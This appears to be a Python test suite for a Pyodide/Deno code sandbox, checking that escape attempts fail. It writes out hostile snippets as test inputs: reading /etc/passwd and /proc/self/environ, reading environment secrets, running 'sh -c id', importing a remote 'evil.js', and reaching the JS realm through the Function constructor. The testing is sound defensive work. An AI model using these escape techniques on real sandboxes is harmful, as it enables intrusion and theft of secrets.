"""Sandboxed code cannot reach the host: no host files, env, processes, network or writes.

Pyodide is not the boundary (Python reaches the JS realm, hence `Deno`); Deno's
permissions are. So each escape is tried the way an attacker would, through the
realm's `Function`, and must fail with Deno's permission error surfacing as a
Python exception.
"""

from __future__ import annotations

import os
import uuid
from pathlib import Path

from throwaway.sandbox.assets import find_assets

#: Gives sandboxed Python the JS realm's `Function` constructor, hence `globalThis` and `Deno`.
REALM = "from pyodide.ffi import to_js\nF = to_js({}).constructor.constructor\n"


def js(body: str) -> str:
    """Sandboxed code that runs a JS function body synchronously and returns its value."""
    return REALM + f"F({body!r})()"


def js_async(body: str) -> str:
    """Sandboxed code that runs a JS function body and awaits the promise it returns."""
    return REALM + f"await F({body!r})()"


def assert_denied(result, what: str) -> None:
    """The attempt failed in the sandbox, with Deno's permission error as the reason."""
    assert result.error is not None, f"{what} succeeded: {result.result!r}"
    assert result.error.type == "JsException", result.error
    assert "NotCapable" in result.error.message or "Requires" in result.error.message
    assert result.result is None


def asset_files() -> list[tuple[str, int]]:
    root = find_assets().root
    return sorted(
        (str(p.relative_to(root)), p.stat().st_size) for p in root.rglob("*") if p.is_file()
    )


# ---- host files ----------------------------------------------------------------


async def test_python_open_of_a_host_file_fails(sandbox):
    r = await sandbox.run("open('/etc/passwd').read()")
    assert r.error is not None
    assert r.error.type in ("FileNotFoundError", "PermissionError", "OSError")
    assert "root:" not in r.stdout + (r.result or "")


async def test_js_realm_read_of_a_host_file_is_denied(sandbox):
    r = await sandbox.run(js("return Deno.readTextFileSync('/etc/passwd')"))
    assert_denied(r, "reading /etc/passwd")
    assert "read access" in r.error.message


async def test_js_realm_async_read_of_a_host_file_is_denied(sandbox):
    r = await sandbox.run(js_async("return Deno.readTextFile('/etc/passwd')"))
    assert_denied(r, "reading /etc/passwd")


async def test_js_realm_listing_of_the_host_root_is_denied(sandbox):
    r = await sandbox.run(js("return [...Deno.readDirSync('/')].map(e => e.name)"))
    assert_denied(r, "listing /")


async def test_js_realm_read_of_the_process_environment_file_is_denied(sandbox):
    r = await sandbox.run(js("return Deno.readTextFileSync('/proc/self/environ')"))
    assert_denied(r, "reading /proc/self/environ")


async def test_permission_request_for_more_reads_is_denied(sandbox):
    r = await sandbox.run(
        js("return Deno.permissions.requestSync({name: 'read', path: '/'}).state")
    )
    assert r.result == "'denied'"


# ---- environment ---------------------------------------------------------------


async def test_js_realm_env_get_is_denied(sandbox):
    r = await sandbox.run(js("return Deno.env.get('THROWAWAY_TEST_SECRET')"))
    assert_denied(r, "Deno.env.get")
    assert "env access" in r.error.message


async def test_js_realm_whole_environment_is_denied(sandbox):
    r = await sandbox.run(js("return JSON.stringify(Deno.env.toObject())"))
    assert_denied(r, "Deno.env.toObject")


async def test_node_process_env_is_denied(sandbox):
    r = await sandbox.run(js("return process.env.THROWAWAY_TEST_SECRET"))
    assert_denied(r, "process.env")


async def test_host_secret_is_not_in_the_python_environment(sandbox):
    secret = os.environ["THROWAWAY_TEST_SECRET"]  # set by conftest before any sandbox started
    r = await sandbox.run("import os\nsorted(os.environ.items())")
    assert r.ok
    assert "THROWAWAY_TEST_SECRET" not in r.result
    assert secret not in r.result


# ---- processes -----------------------------------------------------------------


async def test_js_realm_command_output_is_denied(sandbox):
    r = await sandbox.run(js("return new Deno.Command('/bin/echo', {args: ['hi']}).outputSync()"))
    assert_denied(r, "Deno.Command")
    assert "run access" in r.error.message


async def test_js_realm_command_spawn_is_denied(sandbox):
    r = await sandbox.run(js("return new Deno.Command('sh', {args: ['-c', 'id']}).spawn().pid"))
    assert_denied(r, "Deno.Command.spawn")


# ---- network -------------------------------------------------------------------


async def test_js_realm_fetch_is_denied(sandbox):
    r = await sandbox.run(js_async("return fetch('http://example.com/')"))
    assert_denied(r, "fetch")
    assert "net access" in r.error.message


async def test_js_realm_socket_connect_is_denied(sandbox):
    r = await sandbox.run(js_async("return Deno.connect({hostname: '127.0.0.1', port: 22})"))
    assert_denied(r, "Deno.connect")
    assert "net access" in r.error.message


async def test_js_realm_listening_socket_is_denied(sandbox):
    r = await sandbox.run(js("return Deno.listen({port: 0}).addr"))
    assert_denied(r, "Deno.listen")


async def test_js_realm_dns_lookup_is_denied(sandbox):
    r = await sandbox.run(js_async("return Deno.resolveDns('example.com', 'A')"))
    assert_denied(r, "Deno.resolveDns")


async def test_pyfetch_fails(sandbox):
    r = await sandbox.run("from pyodide.http import pyfetch\nawait pyfetch('http://example.com/')")
    assert r.error is not None
    assert "net access" in r.error.message


async def test_dynamic_import_of_a_remote_url_fails(sandbox):
    r = await sandbox.run(js_async("return import('https://example.com/evil.js')"))
    assert r.error is not None
    assert r.error.type == "JsException"
    assert r.result is None


async def test_dynamic_import_of_a_host_file_is_denied(sandbox):
    r = await sandbox.run(js_async("return import('file:///etc/passwd')"))
    assert r.error is not None
    assert r.error.type == "JsException"
    assert "read access" in r.error.message


# ---- writes --------------------------------------------------------------------


async def test_js_realm_write_to_tmp_is_denied(sandbox):
    target = f"/tmp/throwaway-escape-{uuid.uuid4().hex}"
    r = await sandbox.run(js(f"Deno.writeTextFileSync('{target}', 'pwned')"))
    assert_denied(r, "writing /tmp")
    assert "write access" in r.error.message
    assert not Path(target).exists()


async def test_js_realm_write_into_the_asset_folder_is_denied(sandbox):
    before = asset_files()
    r = await sandbox.run(
        js("Deno.writeTextFileSync(Deno.cwd() + '/packages/numpy-evil.whl', 'pwned')")
    )
    assert_denied(r, "writing the asset folder")
    assert asset_files() == before


async def test_js_realm_overwrite_of_an_asset_file_is_denied(sandbox):
    before = asset_files()
    r = await sandbox.run(js("Deno.writeTextFileSync(Deno.cwd() + '/complete.json', '{}')"))
    assert_denied(r, "overwriting complete.json")
    assert asset_files() == before


async def test_write_into_the_asset_folder_mounted_with_nodefs_fails(fresh_sandbox):
    sb = await fresh_sandbox(timeout=10)
    before = asset_files()
    mounted = await sb.run(
        "import js, pyodide_js\npyodide_js.mountNodeFS('/assets', js.process.cwd())\n"
        "sorted(__import__('os').listdir('/assets'))"
    )
    assert mounted.ok, mounted.error  # reading the public assets is allowed
    r = await sb.run("open('/assets/packages/evil.whl', 'wb').write(b'pwned')")
    assert r.error is not None  # Deno refuses the write; Pyodide may not survive the refusal
    assert r.error.type in ("PermissionError", "OSError", "SandboxCrashed")
    assert asset_files() == before
    assert (await sb.run("'still here'")).result == "'still here'"


# ---- the `js` and `pyodide_js` module routes ---------------------------------------


async def test_js_module_read_of_a_host_file_is_denied(sandbox):
    r = await sandbox.run("import js\njs.Deno.readTextFileSync('/etc/passwd')")
    assert_denied(r, "js.Deno.readTextFileSync")


async def test_js_module_env_is_denied(sandbox):
    r = await sandbox.run("import js\njs.Deno.env.get('THROWAWAY_TEST_SECRET')")
    assert_denied(r, "js.Deno.env.get")


async def test_js_module_fetch_is_denied(sandbox):
    r = await sandbox.run("import js\nawait js.fetch('http://example.com/')")
    assert_denied(r, "js.fetch")


async def test_js_module_command_is_denied(sandbox):
    r = await sandbox.run("import js\njs.Deno.Command.new('/bin/echo').outputSync()")
    assert_denied(r, "js.Deno.Command")


async def test_pyodide_js_cannot_mount_host_folders(sandbox):
    r = await sandbox.run(
        "import pyodide_js\npyodide_js.mountNodeFS('/hostetc', '/etc')\n"
        "open('/hostetc/passwd').read()"
    )
    assert r.error is not None
    assert r.result is None
    assert "root:" not in r.stdout


async def test_pyodide_js_load_package_from_a_url_loads_nothing(sandbox):
    before = asset_files()
    r = await sandbox.run(
        "import pyodide_js\n"
        "len(await pyodide_js.loadPackage('https://example.com/evil-1.0-py3-none-any.whl'))"
    )
    assert r.result == "0"
    assert (await sandbox.run("import evil")).error.type == "ModuleNotFoundError"
    assert asset_files() == before


async def test_pyodide_js_load_package_missing_offline_is_not_downloaded(sandbox):
    before = asset_files()
    r = await sandbox.run("import pyodide_js\nlen(await pyodide_js.loadPackage('regex'))")
    assert r.result == "0"
    assert (await sandbox.run("import regex")).error.type == "ModuleNotFoundError"
    assert asset_files() == before


async def test_sandbox_still_works_after_escape_attempts(sandbox):
    r = await sandbox.run("'intact'")
    assert r.ok
    assert r.result == "'intact'"
